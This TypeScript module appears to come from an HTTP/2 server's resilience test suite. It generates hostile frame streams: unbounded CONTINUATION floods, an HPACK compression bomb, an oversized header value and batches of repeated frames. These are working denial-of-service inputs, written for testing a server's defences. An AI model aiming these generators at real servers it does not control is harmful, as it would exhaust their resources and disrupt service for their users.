/**
 * Hostile frame streams the attack suite and bench/attacks.ts send: header
 * blocks of any size (endless CONTINUATION, an HPACK bomb, one huge value) and
 * batches of one frame repeated. Each is a generator of frames to write, so
 * the sender paces it against the socket and stops when the victim closes.
 */
import { frame } from "../raw-h2.ts";
import { F } from "./hostile.ts";

/** An HPACK integer with an `n`-bit prefix under `first`. */
export function hpackInt(first: number, n: number, v: number): Buffer {
  const max = (1 << n) - 1;
  if (v < max) return Buffer.from([first | v]);
  const out = [first | max];
  v -= max;
  while (v >= 128) {
    out.push((v % 128) | 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}

/** A header block sent as HEADERS then CONTINUATION frames of 16 KB, `total` bytes in all: first `head`, then `fill()`. */
export function blockFrames(
  id: number,
  head: Buffer,
  total: number,
  fill: (n: number) => Buffer,
): () => Buffer | undefined {
  let off = 0;
  return () => {
    if (off >= total) return undefined;
    const n = Math.min(16_384, total - off);
    const payload = off === 0 ? Buffer.concat([head, fill(n - head.length)]) : fill(n);
    const type = off === 0 ? F.HEADERS : F.CONTINUATION;
    off += n;
    return frame(type, off >= total ? F.END_HEADERS : 0, id, payload);
  };
}

/** A header block whose first field adds a 4000-byte entry to the table, then `refs` one-byte references to it. */
export function bomb(id: number, head: Buffer, refs: number): () => Buffer | undefined {
  const entry = Buffer.concat([
    Buffer.from([0x40, 6]),
    Buffer.from("x-bomb"),
    hpackInt(0, 7, 4000),
    Buffer.alloc(4000, 97),
  ]);
  return blockFrames(id, Buffer.concat([head, entry]), head.length + entry.length + refs, (n) => Buffer.alloc(n, 0xbe));
}

/** One literal field `x-huge` whose value is `size` bytes. */
export function hugeHeader(id: number, head: Buffer, size: number): () => Buffer | undefined {
  const field = Buffer.concat([Buffer.from([0x00, 6]), Buffer.from("x-huge"), hpackInt(0, 7, size)]);
  return blockFrames(id, Buffer.concat([head, field]), head.length + field.length + size, (n) => Buffer.alloc(n, 97));
}

/** `count` copies of one frame per write. */
export function repeated(f: Buffer, count: number): () => Buffer {
  const batch = Buffer.concat(Array.from({ length: count }, () => f));
  return () => batch;
}
